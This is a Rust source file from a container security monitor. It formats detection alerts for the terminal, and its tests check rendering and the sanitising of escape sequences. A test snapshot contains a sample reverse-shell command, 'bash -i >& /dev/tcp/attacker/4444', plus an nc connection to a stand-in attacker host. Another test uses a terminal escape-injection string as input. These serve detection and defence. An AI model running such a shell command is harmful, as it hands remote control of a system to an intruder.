//! Rows for people: one line, then the process tree and the evidence, indented. Rendered from the
//! row, so that the daemon's terminal and `bulkhead events` show the same. Every untrusted string
//! goes through `escape::shown`.

use super::escape::shown;
use super::notice::{NoticeKind, NoticeRow};
use super::record::{Alert, OutcomeName, Row, TreeNode};
use super::response::ResponseRow;
use crate::finding::Severity;
use std::fmt::Write as _;

const RESET: &str = "\x1b[0m";
const BOLD: &str = "\x1b[1m";
const DIM: &str = "\x1b[2m";
const RED: &str = "\x1b[31m";
const GREEN: &str = "\x1b[32m";
const YELLOW: &str = "\x1b[33m";
const BLUE: &str = "\x1b[34m";
const CYAN: &str = "\x1b[36m";
const ALARM: &str = "\x1b[1;97;41m";

/// Renders rows for people.
#[derive(Clone, Copy, Debug)]
pub struct Human {
    color: bool,
}

impl Human {
    /// With or without colour.
    pub fn new(color: bool) -> Self {
        Self { color }
    }

    /// Colour if standard output is a terminal that has it and `NO_COLOR` is not set
    /// (<https://no-color.org>).
    pub fn for_stdout() -> Self {
        let set = |name: &str| std::env::var_os(name).filter(|v| !v.is_empty());
        let dumb = set("TERM").is_some_and(|t| t == "dumb");
        let terminal = std::io::IsTerminal::is_terminal(&std::io::stdout());
        Self::new(terminal && !dumb && set("NO_COLOR").is_none())
    }

    /// One row, with the line end.
    pub fn render(&self, row: &Row) -> String {
        match row {
            Row::Alert(alert) => self.alert(alert),
            Row::Response(response) => self.response(response),
            Row::Notice(notice) => self.notice(notice),
        }
    }

    fn paint(&self, style: &str, text: &str) -> String {
        if self.color { format!("{style}{text}{RESET}") } else { text.to_owned() }
    }

    fn alert(&self, alert: &Alert) -> String {
        let (style, word) = match alert.severity() {
            Severity::Critical => (ALARM, "CRITICAL"),
            Severity::High => (RED, "HIGH"),
            Severity::Medium => (YELLOW, "MEDIUM"),
            Severity::Low => (BLUE, "LOW"),
            Severity::Info => (DIM, "INFO"),
        };
        let mut out = format!(
            "{} {} {}  {}  {}  {}\n",
            self.paint(DIM, &time(&alert.timestamp)),
            self.paint(style, word),
            self.paint(BOLD, alert.event.action.0.name()),
            self.paint(CYAN, &place(alert)),
            shown(&alert.message),
            self.outcome(alert),
        );
        if alert.bulkhead.amendment {
            let line = format!("amends {}: the container is known now", shown(&alert.event.id));
            let _ = writeln!(out, "    {}", self.paint(DIM, &line));
            return out;
        }
        self.tree(&mut out, &alert.bulkhead.process_tree);
        for other in &alert.bulkhead.accomplices {
            let _ = writeln!(out, "    {} {}", self.paint(DIM, "with"), process(other));
        }
        for e in &alert.bulkhead.evidence {
            let weight = if e.weight > 0 { format!(" +{}", e.weight) } else { String::new() };
            let what = format!("evidence {}{weight}:", shown(&e.what));
            let _ = writeln!(out, "    {} {}", self.paint(DIM, &what), shown(&e.detail));
        }
        out
    }

    fn outcome(&self, alert: &Alert) -> String {
        let body = &alert.bulkhead;
        if let Some(exception) = &body.exception {
            return self.paint(DIM, &format!("[excepted: {}]", shown(&exception.reason)));
        }
        let by = body.enforced_by.map_or("", |r| r.name());
        match body.outcome {
            OutcomeName::Observed => self.paint(DIM, "[observed]"),
            OutcomeName::Denied => self.paint(GREEN, &format!("[DENIED by {by}]")),
            OutcomeName::Killed => {
                let pids: Vec<String> = body.killed_pids.iter().map(u32::to_string).collect();
                let pids = if pids.is_empty() { String::new() } else { format!(": {}", pids.join(" ")) };
                self.paint(GREEN, &format!("[KILLED by {by}{pids}]"))
            }
            OutcomeName::Frozen => self.paint(GREEN, "[container FROZEN]"),
            OutcomeName::Quarantined => self.paint(GREEN, "[container QUARANTINED]"),
            OutcomeName::Stopping => self.paint(YELLOW, "[the engine is STOPPING the container]"),
            OutcomeName::Refused => {
                let why = shown(body.refused_why.as_deref().unwrap_or("no reason given"));
                self.paint(RED, &format!("[NOT STOPPED: {why}]"))
            }
        }
    }

    /// Outermost first, each a step further in; the culprit is marked.
    fn tree(&self, out: &mut String, tree: &[TreeNode]) {
        for (depth, node) in tree.iter().enumerate() {
            let culprit = depth + 1 == tree.len();
            let indent = " ".repeat(4 + 2 * depth.min(16));
            let branch = if depth == 0 { "" } else { "└ " };
            let text = process(node);
            let line = match (culprit, node.in_container) {
                (true, _) => format!("{} {}", self.paint(BOLD, &text), self.paint(RED, "◀")),
                (false, true) => text,
                (false, false) => self.paint(DIM, &text),
            };
            let _ = writeln!(out, "{indent}{branch}{line}");
        }
    }

    fn response(&self, row: &ResponseRow) -> String {
        let style = if row.bulkhead.response.done { GREEN } else { RED };
        format!(
            "{} {}  {}\n",
            self.paint(DIM, &time(&row.timestamp)),
            self.paint(style, &shown(row.event.action.name())),
            shown(&row.message)
        )
    }

    fn notice(&self, row: &NoticeRow) -> String {
        let style = match row.event.kind {
            NoticeKind::State => GREEN,
            NoticeKind::Metric => YELLOW,
            NoticeKind::PipelineError => RED,
        };
        format!(
            "{} {}  {}\n",
            self.paint(DIM, &time(&row.timestamp)),
            self.paint(style, &shown(&row.event.action)),
            shown(&row.message)
        )
    }
}

/// Container and image as far as known.
fn place(alert: &Alert) -> String {
    let container = &alert.container;
    if container.id == "host" {
        return "host".into();
    }
    let name = if container.name.is_empty() {
        shown(container.id.get(..12).unwrap_or(&container.id))
    } else {
        shown(&container.name)
    };
    if container.image.name.is_empty() {
        return format!("{name} (image not known yet)");
    }
    format!("{name} ({})", shown(&container.image.name))
}

fn process(node: &TreeNode) -> String {
    let command = if node.command_line.is_empty() { &node.executable } else { &node.command_line };
    format!("{}[{}] {}", shown(&node.name), node.pid, shown(command)).trim_end().to_owned()
}

/// Time of day with milliseconds, UTC, out of an ISO timestamp.
fn time(timestamp: &str) -> String {
    match timestamp.parse::<jiff::Timestamp>() {
        Ok(t) => t.strftime("%H:%M:%S.%3fZ").to_string(),
        Err(_) => shown(timestamp),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::output::samples;

    #[test]
    fn an_alert_for_people() {
        insta::assert_snapshot!(Human::new(false).render(&samples::reverse_shell_row()), @r"
        12:03:04.123Z CRITICAL reverse_shell  web-1 (debian-tools:latest)  bash takes its commands from 203.0.113.66:4444  [KILLED by signal: 901 902]
            containerd-shim[700] containerd-shim -id x
              └ sh[900] sh -c 'bash -i >& /dev/tcp/attacker/4444 0>&1'
                └ bash[901] bash -i ◀
            with nc[899] nc attacker 4444
            evidence stdin_is_outbound_socket +90: descriptor 0 is connected to 203.0.113.66:4444
        ");
    }

    #[test]
    fn an_amendment_and_a_notice_are_short() {
        let mut finding = samples::reverse_shell();
        finding.amendment = true;
        let text = Human::new(false).render(&samples::row(&finding));
        assert_eq!(text.lines().count(), 2);
        assert!(text.contains("amends f-1"));
        let notice = Human::new(false).render(&samples::notice_row());
        assert_eq!(notice, "12:03:04.200Z started  Bulkhead 0.1.0 is watching\n");
    }

    #[test]
    fn a_response_is_a_line() {
        let text: String = samples::responses().iter().map(|row| Human::new(false).render(row)).collect();
        insta::assert_snapshot!(text, @r"
        12:03:04.200Z quarantine  web-1 is cut off from all networks (by network namespace)
        12:03:04.200Z freeze  freeze of web-1 refused: it is frozen already
        12:03:04.200Z kill  1 process of web-1 killed (by network namespace)
        ");
    }

    #[test]
    fn colour_only_when_asked() {
        let row = samples::reverse_shell_row();
        assert!(!Human::new(false).render(&row).contains('\x1b'));
        assert!(Human::new(true).render(&row).starts_with("\x1b[2m12:03"));
    }

    #[test]
    fn nothing_untrusted_reaches_the_terminal_raw() {
        let evil = "x\x1b]0;pwned\x07\n\r\u{202e}";
        let mut f = samples::reverse_shell();
        let evil_text = || String::from(evil);
        f.message = evil_text();
        f.container.name = evil_text();
        f.container.image = evil_text();
        f.process.name = evil_text();
        f.process.args[0] = evil_text();
        f.ancestors[0].executable = evil_text();
        f.ancestors[0].name = evil_text();
        f.accomplices[0].name = evil_text();
        f.evidence[0].detail = evil_text();
        f.evidence[0].what = evil_text();
        f.id = evil_text();
        f.ancestors[0].args.clear();
        f.outcome = crate::finding::Outcome::Refused { why: evil.into() };
        let lines = Human::new(false).render(&samples::row(&f));
        assert!(lines.chars().all(|c| c == '\n' || !c.is_control()), "{lines:?}");
        assert!(!lines.contains('\u{202e}'));
        assert_eq!(lines.lines().count(), 6);
        f.amendment = true;
        let lines = Human::new(false).render(&samples::row(&f));
        assert!(lines.chars().all(|c| c == '\n' || !c.is_control()), "{lines:?}");
    }

    #[test]
    fn what_is_not_known_is_said() {
        let mut f = samples::reverse_shell();
        f.container = crate::finding::ContainerView { id: "ab".repeat(32), ..Default::default() };
        let text = Human::new(false).render(&samples::row(&f));
        assert!(text.contains("  abababababab (image not known yet)  "), "{text}");
        f.container.id = "host".into();
        assert!(Human::new(false).render(&samples::row(&f)).contains("  host  "));
    }
}
